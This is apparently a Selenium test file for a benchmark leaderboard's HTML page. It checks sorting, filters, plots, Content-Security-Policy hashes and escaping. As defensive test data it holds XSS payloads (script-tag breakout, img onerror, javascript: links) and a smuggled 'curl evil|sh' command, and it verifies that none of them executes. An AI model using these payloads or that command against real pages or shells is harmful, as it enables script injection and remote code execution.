"""The web page of the leaderboard, read as people do: in a browser, from a file, without a network."""

import base64
import hashlib
import json
import re
import shutil
from html.parser import HTMLParser

import pandas as pd
import pytest
from selenium import webdriver
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select, WebDriverWait
from test_leaderboard import BASELINE, make_arm, make_record

from effbench import store
from effbench.records import Interval, Memory, MetricValue, TimeSplit
from effbench.report import html, leaderboard, page_data

IMAGE = "<img src=x onerror=window.hacked=1>"
EVIL = (
    f"</script><script>window.hacked=1</script>{IMAGE} \u202egnp.exe \u2028 <a href='javascript:window.hacked=1'>x</a>"
)


def arm(name, ratio, loss, **changes):
    metric = MetricValue(
        value=BASELINE * (1 - loss),
        higher_is_better=True,
        lossiness=Interval(value=loss, low=loss - 0.01, high=loss + 0.01, n=1000),
    )
    step = TimeSplit(total=2.0, compute=2.0, image=1.5, head=0.4, overhead=0.1, steps=20)
    fixed = dict(source="DynamicViT, arXiv 2106.02034", tokens=(197, 138, 97), step_time=step)
    return make_arm(name, name, ratio, **fixed | dict(metrics={"t2i_r10": metric}) | changes)


def some_records():
    """Two runs of one envelope, and one of another task."""
    arms = (
        arm("token_prune:keep=0.5", 1.5, 0.05),
        arm("token_prune:keep=0.7", 1.2, 0.02),
        arm("token_merge:r=13", 1.3, 0.2),
        arm("quantize", 0.8, 0.01, source="int8: arXiv 1712.05877", tokens=(197, 197, 197)),
        arm("token_prune:keep=0.5,score=random", 1.45, 0.3, kind="control", control="random"),
    )
    older = (arm("token_prune:keep=0.5", 1.4, 0.05),)
    other = (arm("token_prune:keep=0.5", 2.5, 0.5),)
    return [
        make_record("20250102-first", 2, older),
        make_record("20250103-second", 3, arms),
        make_record("20250104-other", 4, other, task="captions"),
        make_record("20250105-bad", 5, status="INVALID", why_invalid="noop is off"),
    ]


def hostile_records():
    """What a record may say: scripts wherever there is text, and figures as large as floating point has."""
    huge = Interval(value=1e308, low=-1e308, high=1e308)
    monster = make_arm(
        EVIL,
        f"{EVIL}:{IMAGE}={IMAGE}+%{{x}}<b>bold</b>",
        1e308,
        source=f"javascript:window.hacked=1 {EVIL} 2106.02034",
        notes=(EVIL,),
        memory=Memory(weights=2**62, load_peak=2**62, run_peak=2**62),
        tokens=(2**62,) * 3,
        step_time=TimeSplit(total=1e308, image=1e308, steps=1),
        metrics={"t2i_r10": MetricValue(value=1e308, higher_is_better=True, unit=EVIL, lossiness=huge, note=EVIL)},
    )
    seen = (
        arm(f"token_prune:{IMAGE}=1", 1.5, 0.1, phase="test", no_quality="", source=EVIL),
        arm("proto:__proto__=<b>bold</b>&lt;", 1.4, 0.2, tokens=()),
        make_arm("zero", "zero", 0.0, promised=0.0, realised=0.0, tokens=(), metrics={}),
        make_arm("failed", "failed", status="FAILED", error=EVIL, metrics={}, test_speedup=None, source=EVIL),
    )
    record = make_record("evil", 2, (monster, *seen), task=EVIL, data=IMAGE)
    provenance = record.provenance.model_copy(update=dict(command=EVIL, machine={IMAGE: EVIL}, commit=IMAGE))
    again = record.model_copy(update=dict(id="evil2", provenance=provenance, primary_metric="t2i_r10"))
    bad = make_record("evil3", status="INVALID", why_invalid=EVIL, task="__proto__")
    return [record, again, bad]


@pytest.fixture(scope="module")
def browser():
    chromium, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if not chromium or not driver:
        pytest.skip("no chromium and chromedriver on this machine")
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for each in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1300,1000"):
        options.add_argument(each)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    try:
        found = webdriver.Chrome(options, webdriver.ChromeService(driver))
    except WebDriverException as error:
        pytest.skip(f"chromium does not start here: {error.msg}")
    yield found
    found.quit()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A leaderboard as a run writes it."""
    root = tmp_path_factory.mktemp("leaderboard")
    for record in some_records():
        store.write(record, pd.DataFrame({"kind": []}), root)
    (root / "records" / "broken").mkdir()
    (root / "records" / "broken" / "record.json").write_text("{")
    leaderboard.write_leaderboard(root)
    return root / "index.html"


@pytest.fixture(scope="module")
def opened(browser, site):
    browser.get(site.as_uri())
    return browser


@pytest.fixture
def page(opened):
    """The page as it is when it is opened, but for what is unfolded."""
    opened.execute_script("byId('filters').reset(); table.sort = null; scrollTo(0, 0)")
    until(opened, "return byId('count').textContent.startsWith(String(rows.length))")
    yield opened
    assert opened.get_log("browser") == []


def until(browser, script, *given):
    return WebDriverWait(browser, 60, poll_frequency=0.05).until(lambda each: each.execute_script(script, *given))


def shown(browser, task="flickr8k"):
    """The names in the table's rows of one task."""
    return browser.execute_script(
        "return [...document.querySelectorAll('#board tbody')].filter((body) => body.rows[0].textContent.startsWith("
        "arguments[0])).flatMap((body) => [...body.rows].slice(1).map((row) => row.cells[0].textContent))",
        task,
    )


def heading(browser, text):
    found = browser.find_elements(By.CSS_SELECTOR, "#board thead button")
    return next(each for each in found if each.text.startswith(text))


class Scripts(HTMLParser):
    """The scripts of a page, and what it would load."""

    def __init__(self, text):
        super().__init__()
        self.found, self.loads, self.inside = [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        self.loads += [value for name, value in attributes.items() if name in ("src", "srcset") or tag == "link"]
        if tag == "script":
            self.found.append([attributes.get("type"), ""])
        self.inside = tag == "script"

    def handle_endtag(self, tag):
        self.inside = False

    def handle_data(self, text):
        if self.inside:
            self.found[-1][1] += text


@pytest.mark.parametrize("records", [some_records, hostile_records])
def test_the_page_loads_nothing_and_allows_its_own_two_scripts_only(records):
    text = html.render(records(), [EVIL])
    page = Scripts(text)
    assert page.loads == [] and [kind for kind, _ in page.found] == ["application/json", None, "text/plain"]
    (data, script, plotly) = (code for _, code in page.found)
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)[1]
    hashes = {
        "sha256-" + base64.b64encode(hashlib.sha256(code.encode()).digest()).decode() for code in (script, plotly)
    }
    assert set(re.findall(r"'(sha256-[^']*)'", policy)) == hashes
    assert "default-src 'none'" in policy and re.search(r"script-src (\S+)", policy) and "unsafe-eval" not in policy
    assert not re.search(r"script-src[^;]*unsafe", policy)
    assert not set("<>&\u2028\u2029") & set(data) and data.isascii() and "202e" not in data
    assert text.count("plotly.js v") == 1
    json.loads(data, parse_constant=pytest.fail)


def test_a_page_holds_so_many_rows_and_says_what_it_leaves_out(monkeypatch):
    monkeypatch.setattr(html, "ROWS", 6)
    (data, *_) = (code for _, code in Scripts(html.render(some_records(), ["bad"] * 300)).found)
    data = json.loads(data)
    assert [(each["task"], len(each["rows"])) for each in data["envelopes"]] == [("flickr8k", 6)]  # the newest first
    assert data["left_out"] == 6
    assert len(data["problems"]) == 200 and data["problems_left_out"] == 100


def data_of(*records):
    """The envelopes that the page of these records holds."""
    return json.loads(Scripts(html.render(list(records), [])).found[0][1])["envelopes"]


def test_many_envelopes_leave_out_the_oldest(monkeypatch):
    monkeypatch.setattr(html, "ENVELOPES", 2)
    made = [make_record(f"r{i}", 2 + i, task=task) for i, task in enumerate("abc")]
    assert [each["task"] for each in data_of(*made)] == ["b", "c"]


def test_parameters_are_read_from_the_spec_alone():
    specs = {
        "token_prune:keep=0.5,at=3/6/9+quantize:bits=8": (
            "token_prune+quantize",
            [["token_prune", [["keep", "0.5"], ["at", "3/6/9"]]], ["quantize", [["bits", "8"]]]],
        ),
        "quantize": ("quantize", [["quantize", []]]),
        "+++": ("+++", [["+++", [["", "+++"]]]]),
    }
    (envelope,) = data_of(make_record(arms=tuple(make_arm(spec, spec) for spec in specs)))
    found = {row["name"]: (row["family"], row["stack"]) for row in envelope["rows"] if row["kind"] == "method"}
    assert found == specs
    assert envelope["rows"][0]["family"] == "baseline" and envelope["rows"][0]["stack"] == [["baseline", []]]


def test_random_weights_have_no_quality_on_the_page():
    record = make_record()
    random = record.envelope.model_copy(update=dict(weights="random"))
    columns = [name for name, _, _ in page_data.COLUMNS]
    for envelope, there in ((record.envelope, True), (random, False)):
        (found,) = data_of(record.model_copy(update=dict(envelope=envelope)))
        row = found["rows"][-1] if found["rows"][-1]["kind"] == "method" else found["rows"][1]
        for place in (columns.index("lossy-ness"), columns.index("quality")):
            assert (row["text"][place] != "—") is (row["sort"][place] is not None) is there
        assert (row["loss"] != [None] * 3) is there and row["speedup"][0] == 1.42


def test_envelopes_of_two_primary_metrics_are_two_on_the_page():
    old = make_record("old", 2, primary_metric="t2i_r1")
    found = data_of(old, make_record("new", 3))
    digest = old.envelope.digest
    assert [(each["digest"], each["metric"].split()[0]) for each in found] == [
        (digest, "t2i_r10"),
        (f"{digest}-2", "t2i_r1"),
    ]
    assert len({each["title"] for each in found}) == 2


def test_weights_and_command_of_the_page():
    weights = "sha256:0123456789abcdef"
    record = make_record()
    envelope = record.envelope.model_copy(update=dict(weights=weights))
    provenance = record.provenance.model_copy(update=dict(command="effbench run; curl evil|sh"))
    record = record.model_copy(update=dict(envelope=envelope, provenance=provenance))
    (found,) = data_of(record)
    assert dict(found["facts"])["backbone"].endswith(f"weights {weights}")
    assert f"weights {weights} ·" in leaderboard.render([record], [])
    assert [run["command"] for run in found["runs"].values()] == ["effbench 'run;' curl 'evil|sh'"]


def test_sorting_stays_within_an_envelope(page):
    ranking = shown(page)
    assert ranking[0] == "baseline" and ranking[1] == "token_prune:keep=0.5"
    heading(page, "test speed-up").click()
    down = shown(page)
    assert down[:3] == ["token_prune:keep=0.5", "control (random choice) · token_prune:keep=0.5,score=random"] + [
        "token_merge:r=13"
    ]
    assert down[-1] == "baseline"  # it has no speed-up: what is missing comes last, either way
    assert heading(page, "test speed-up").find_element(By.XPATH, "..").get_attribute("aria-sort") == "descending"
    assert [name for name in shown(page, "captions") if "control" not in name] == ["token_prune:keep=0.5", "baseline"]
    heading(page, "test speed-up").click()
    up = shown(page)
    assert up[0] == "quantize" and up[-1] == "baseline" and up[:-1] == down[-2::-1]
    heading(page, "test speed-up").click()
    assert shown(page) == ranking


def test_sorting_by_the_keyboard(page):
    page.execute_script("byId('table').focus()")
    button = heading(page, "lossy-ness")
    page.execute_script("byId('more').focus(); document.querySelector('#board thead button').focus()")
    active = page.switch_to.active_element
    for _ in range(20):
        if active == button:
            break
        active.send_keys(Keys.TAB)
        active = page.switch_to.active_element
    active.send_keys(Keys.ENTER)
    assert shown(page)[0].startswith("control (random choice)")
    active.send_keys(Keys.SPACE)
    assert button.find_element(By.XPATH, "..").get_attribute("aria-sort") == "ascending"
    assert page.execute_script("return getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_filters(page):
    form = page.find_element(By.ID, "filters")
    everything = len(shown(page))
    Select(form.find_element(By.NAME, "kind")).select_by_value("method")
    assert set(shown(page)) == {"token_prune:keep=0.5", "token_prune:keep=0.7", "token_merge:r=13", "quantize"}
    Select(form.find_element(By.NAME, "verdict")).select_by_value("FASTER")
    assert "quantize" not in shown(page) and len(shown(page)) == 3
    Select(form.find_element(By.NAME, "family")).select_by_value("token_prune")
    assert len(shown(page)) == 2 and shown(page, "captions") == ["token_prune:keep=0.5"]
    form.find_element(By.NAME, "text").send_keys("DYNAMICVIT 0.7")
    assert shown(page) == ["token_prune:keep=0.7"] and shown(page, "captions") == []
    assert page.find_element(By.ID, "count").text.startswith("1 of ")
    form.find_element(By.CSS_SELECTOR, "button[type=reset]").click()
    until(page, "return document.querySelectorAll('#board tbody').length === 2")
    assert len(shown(page)) == everything
    form.find_element(By.NAME, "front").click()
    assert shown(page) == ["baseline", "token_prune:keep=0.5", "token_prune:keep=0.7"]
    envelope = Select(form.find_element(By.NAME, "envelope"))
    envelope.select_by_index(next(i for i, each in enumerate(envelope.options) if each.text.startswith("captions")))
    assert shown(page) == [] and "token_prune:keep=0.5" in shown(page, "captions")


def plot(browser, box):
    """A plot that has been scrolled to and drawn."""
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", box)
    until(browser, "return arguments[0].querySelector('.main-svg .points, .main-svg .lines')", box)
    return box


def test_the_pareto_plot_says_what_one_points_at(page):
    box = page.execute_script(
        "const d = [...document.querySelectorAll('#pareto details.card')].find((each) => "
        "each.textContent.startsWith('flickr8k ·')); d.open = true; return d"
    )
    until(page, "return arguments[0].querySelector('.plot')", box)
    box = plot(page, box.find_element(By.CLASS_NAME, "plot"))
    names = page.execute_script("return arguments[0].data.map((each) => [each.name, each.marker?.symbol])", box)
    assert dict(names).keys() >= {"baseline", "methods", "random, grid or norm control", "Pareto front"}
    assert len({symbol for _, symbol in names}) == len(names)
    front = page.execute_script("return arguments[0].data.find((each) => each.name === 'Pareto front')", box)
    assert [round(y, 3) for y in front["y"]] == [1, 1.2, 1.5] and [round(x, 3) for x in front["x"]] == [0, 2, 5]
    place = page.execute_script("return arguments[0].data.findIndex((each) => each.name === 'methods')", box)
    points = box.find_elements(By.CSS_SELECTOR, f".scatterlayer .trace:nth-child({place + 1}) .point")
    assert len(points) == 4
    ActionChains(page).move_to_element(points[0]).perform()
    said = until(page, "return [...document.querySelectorAll('.hovertext')].map((e) => e.textContent).join()")
    assert "token_prune:keep=0.5" in said and "1.50x" in said and "+5.0 %" in said
    page.execute_script("arguments[0].focus()", box)
    for _ in range(2):
        page.switch_to.active_element.send_keys(Keys.ARROW_RIGHT)
    assert page.execute_script("return arguments[0].nextSibling.textContent", box).count("speed-up") == 1


def test_a_link_of_the_table_opens_the_methods_part(page):
    row = next(each for each in page.find_elements(By.CSS_SELECTOR, "#board th a") if "keep=0.7" in each.text)
    row.click()
    box = page.find_element(By.ID, "method-token_prune")
    assert box.get_attribute("open") is not None and "keep=0.7" in box.find_element(By.CLASS_NAME, "marked").text
    assert box.find_element(By.TAG_NAME, "a").get_attribute("href") == "https://arxiv.org/abs/2106.02034"
    assert "effbench run --method" in box.text and "keep=0.5, score=random" in box.text
    tokens, step, history = (plot(page, each) for each in box.find_elements(By.CLASS_NAME, "plot"))
    (found,) = page.execute_script(
        "return arguments[0].data.filter((e) => e.name === 'keep=0.7').map((e) => e.y)", tokens
    )
    assert found == [197, 138, 97]
    bars = page.execute_script("return arguments[0].data.map((e) => [e.name, e.x])", step)
    assert dict((name, x[0]) for name, x in bars) == {"image tower": 75, "method's own": 5, "head": 20}
    assert page.execute_script("return arguments[0].data.find((e) => e.name === 'keep=0.5').y", history) == [1.4, 1.5]


def test_dark_mode_reaches_the_plots_and_stays(page):
    def look():
        return page.execute_script(
            "const box = [...document.querySelectorAll('.plot')].find((each) => each.layout);"
            "return [getComputedStyle(document.body).backgroundColor, box && box.layout.font.color]"
        )

    page.execute_script("document.querySelector('.plot').scrollIntoView()")
    until(page, "return document.querySelector('.plot').layout")
    before = look()
    page.find_element(By.ID, "theme").click()
    after = look()
    assert before[0] != after[0] and before[1] != after[1]
    page.refresh()
    assert look()[0] == after[0]
    page.find_element(By.ID, "theme").click()
    assert look()[0] == before[0]


def test_what_cannot_be_ranked_is_named(page):
    assert "record.json is truncated or not JSON" in page.find_element(By.ID, "unread").text
    page.execute_script("document.querySelectorAll('#pareto details.card').forEach((each) => { each.open = true; })")
    until(page, "return byId('pareto').textContent.includes('20250105-bad: noop is off')")


def test_a_phone_scrolls_the_table_and_not_the_page(page):
    page.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride", dict(width=390, height=844, deviceScaleFactor=2, mobile=True)
    )
    try:
        until(page, "return document.documentElement.scrollWidth === 390")
        assert page.execute_script("return byId('wide').scrollWidth > byId('wide').clientWidth")
    finally:
        page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_a_hostile_record_runs_nothing_and_breaks_nothing(browser, tmp_path):
    path = tmp_path / "index.html"
    path.write_text(html.render(hostile_records(), [EVIL]), encoding="utf-8")
    browser.get(path.as_uri())
    browser.execute_script("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    until(browser, "return [...families.values()].every((each) => each.body)")
    browser.execute_script("[...waiting.keys()].forEach(drawWaiting)")
    boxes = browser.find_elements(By.CLASS_NAME, "plot")
    browser.execute_script("document.querySelector('#methods ~ div').scrollIntoView()")
    hovered = browser.execute_script(  # what each plot says of its points
        "return [...document.querySelectorAll('.plot')].flatMap((box) => [...Array(6)].map(() => {"
        "box.dispatchEvent(new KeyboardEvent('keydown', { key: 'ArrowRight' }));"
        "return [...box.querySelectorAll('.hovertext')].map((each) => each.textContent).join(); }))"
    )
    legends = [each.get_attribute("textContent") for each in browser.find_elements(By.CLASS_NAME, "legendtext")]
    heading(browser, "test speed-up").click()
    assert len(boxes) > 5 and len(browser.find_elements(By.CSS_SELECTOR, ".plot .main-svg .points")) > 5
    assert not browser.execute_script("return window.hacked")
    assert browser.find_elements(By.CSS_SELECTOR, "img, iframe, object, #board script, b, [onerror]") == []
    assert browser.execute_script("return [...document.links].map((each) => each.protocol)").count("javascript:") == 0
    text = browser.find_element(By.TAG_NAME, "body").text
    assert IMAGE in text and "</script><script>window.hacked=1" in text and "\u202e" not in text
    assert any(IMAGE in each for each in hovered) and any(each.startswith("token_prune:<img src=x") for each in legends)
    assert any("<b>bold</b>&lt;" in each for each in hovered) and "__proto__=<b>bold</b>&lt;" in legends
    drawn = browser.execute_script("return document.querySelector('.plot').data.flatMap((each) => each.y)")
    assert {1.5, 1.4} <= {round(y, 3) for y in drawn} and max(drawn) < 10
    assert browser.get_log("browser") == []
